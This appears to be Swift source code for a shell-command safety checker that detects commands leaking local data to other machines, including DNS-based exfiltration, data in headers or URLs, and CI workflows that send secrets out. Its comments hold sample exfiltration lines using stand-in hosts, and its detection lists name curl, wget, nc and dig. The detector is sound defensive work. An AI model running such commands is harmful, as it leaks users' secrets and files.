internal import MMCore
import ShellSyntax

/// What is read on this machine and becomes part of what another one is told: a name to look up, an address, a header.
extension ShellJudge {
    /// How much of this machine a text tells.
    enum Told: Int, Comparable {
        /// The content of files, which may be what a request is about.
        case content
        /// Encoded data, keys and variables, which nothing but their reader needs.
        case data

        static func < (left: Told, right: Told) -> Bool { left.rawValue < right.rawValue }
    }

    /// Returns whether a command tells another machine what was read on this one: `host $(base64 f).example`.
    func tellsOutside(_ call: ShellScript.Command) -> Bool {
        let words = Array(call.arguments)
        // The client of a service sends its words to the host that an option names.
        let isWeb = ShellWords.contains(call.program, in: "web-clients")
        let named =
            !isWeb
            && zip(words, words.dropFirst()).contains { option, host in
                ["-h", "-H", "--host", "--server"].contains(option.value)
                    && !["localhost", "127.0.0.1", "::1"].contains(host.value)
            }
        if named, !ShellPrograms.readers.contains(call.program),
            words.contains(where: { !$0.isFixed && told(by: $0.value) != nil })
        {
            return true
        }
        let asksNames = ShellWords.contains(call.program, in: "name-askers")
        guard asksNames || isWeb, !staysOnMachine(words.map(\.value))
        else { return false }
        return words.indices.contains { index in
            let word = words[index]
            guard !word.isFixed else { return false }
            let isHeader =
                index > 0
                && ["-H", "--header", "-A", "--user-agent", "-b", "--cookie", "-e", "--referer"].contains(
                    words[index - 1].value)
            return tells(word.value, isName: asksNames, isHeader: isHeader)
        }
    }

    private func tells(_ text: String, isName: Bool, isHeader: Bool) -> Bool {
        if context.isRemote, Self.substitutes(text), Self.putsIntoAddress(text) { return true }
        let direct = told(by: text)
        if direct == .data { return true }
        // A whole address may come from a file; a part of one is data.
        if direct == .content, isHeader || !text.hasPrefix("$") && !text.hasPrefix("`") { return true }
        // The servers for a name that is looked up learn its content.
        if isName || text.contains("://$(") || text.contains("://`"), Self.substitutes(text),
            text.contains(").") || text.contains("`.")
        {
            return true
        }
        return carrying.contains { name, what in
            let isPart = ["$\(name).", "${\(name)}."].contains(where: text.contains)
            let isNamed =
                isPart
                || ["$\(name)", "${\(name)}", "${\(name):"].contains { start in
                    text.firstRange(of: start).map { found in
                        start.hasPrefix("${")
                            || text[found.upperBound...].first.map { !($0.isLetter || $0.isNumber || $0 == "_") }
                                ?? true
                    } ?? false
                }
            return what == .data ? isNamed : isPart
        }
    }

    private static func substitutes(_ text: String) -> Bool { text.contains("$(") || text.contains("`") }

    /// Returns what the commands that a word substitutes tell of this machine; `nil` if they read no data of it.
    func told(by text: String) -> Told? {
        let start = text.firstRange(of: "$(")?.lowerBound ?? text.firstIndex(of: "`")
        guard let start else { return nil }
        let words = text[start...].split { !$0.isLetter && !$0.isNumber && !"._-/~".contains($0) }.map(String.init)
        if words.contains(where: {
            ShellWords.contains(ShellMemory.name($0), in: "encoders") || isSecret($0) || Self.isSettings($0)
        }) {
            return .data
        }
        // The version of a project is part of many addresses.
        let lowered = text.lowercased()
        if ["version", "package.json", ".toml", ".nvmrc"].contains(where: lowered.contains) { return nil }
        let showsHistory = zip(words, words.dropFirst()).contains {
            $0 == "git" && ["log", "show", "diff", "blame", "grep", "cat-file"].contains($1)
        }
        let reads = text.contains("$(<") || showsHistory || words.contains(where: Self.readsFiles)
        return reads ? .content : nil
    }

    private static func readsFiles(_ name: String) -> Bool {
        ShellPrograms.printers.contains(name) && !fetchesText(name)
            && !["jq", "yq", "sed", "awk", "cut", "grep"].contains(name)
    }

    /// Returns the file of a build service that a command writes, if what it will run there sends out the service's
    /// secrets.
    func tellsLater(_ call: ShellScript.Command) -> String? {
        let file = call.redirections.first { redirect in
            let path = redirect.target.value
            return redirect.writes
                && ["github/workflows/", "gitlab-ci", ".circleci/", "azure-pipelines", "Jenkinsfile"].contains(
                    where: path.contains)
        }?.target.value
        guard let file, let text = output(of: call), text.lowercased().contains("secrets") else { return nil }
        return ["curl", "wget", "nc ", "dig ", "nslookup"].contains(where: text.contains) ? file : nil
    }

    /// Returns the variables that a text sets to what was read on this machine.
    func carried(by script: ShellScript) -> [String: Told] {
        var found: [String: Told] = [:]
        func note(_ name: String, _ what: Told?) {
            if let what { found[name] = max(what, found[name] ?? what) }
        }
        for binding in script.bindings {
            for value in binding.values where !value.isFixed { note(binding.name.value, told(by: value.value)) }
        }
        lazy var readsKeys = script.commands.contains { call in
            call.arguments.contains { isSecret($0.value) || Self.isSettings($0.value) || $0.value.hasPrefix("id_") }
        }
        for call in script.commands {
            for word in call.assignments where !word.isFixed {
                guard let equals = word.value.firstIndex(of: "=") else { continue }
                let value = word.value[word.value.index(after: equals)...]
                note(String(word.value[..<equals]), told(by: String(value)))
            }
            if call.program == "read" {
                for word in call.arguments where !word.value.hasPrefix("-") {
                    note(word.value, readsKeys ? .data : .content)
                }
            }
        }
        return found
    }

    /// Returns whether the output of a command becomes part of an address, after its host:
    /// `https://a.example/?q=$(id)`.
    private static func putsIntoAddress(_ word: String) -> Bool {
        guard let scheme = word.firstRange(of: "://") else { return false }
        let rest = word[scheme.upperBound...]
        let host = rest.prefix { !"/?#".contains($0) }
        let isHere = ["localhost", "127.0.0.1", "[::1]", "$"].contains(where: host.hasPrefix)
        return !isHere && rest[host.endIndex...].contains { "$`".contains($0) }
    }

    /// Returns whether a program sends the content of a file or another command's output to an address that it is
    /// given.
    func feedsConnection(_ call: ShellScript.Command) -> Bool {
        // These clients send their input, whatever the method.
        if ["http", "https", "xh"].contains(call.program),
            call.redirections.contains(where: { $0.kind == .input && $0.target.value != "/dev/null" })
        {
            return true
        }
        guard call.arguments.contains(where: { ["-connect", "--connect", "--connect-to"].contains($0.value) }) else {
            return false
        }
        let isFed = call.redirections.contains { $0.kind == .input && $0.target.value != "/dev/null" }
        let isClosed = call.redirections.contains { $0.descriptor == 0 }
        return isFed || call.readsPipe && call.document == nil && !isClosed
    }
}
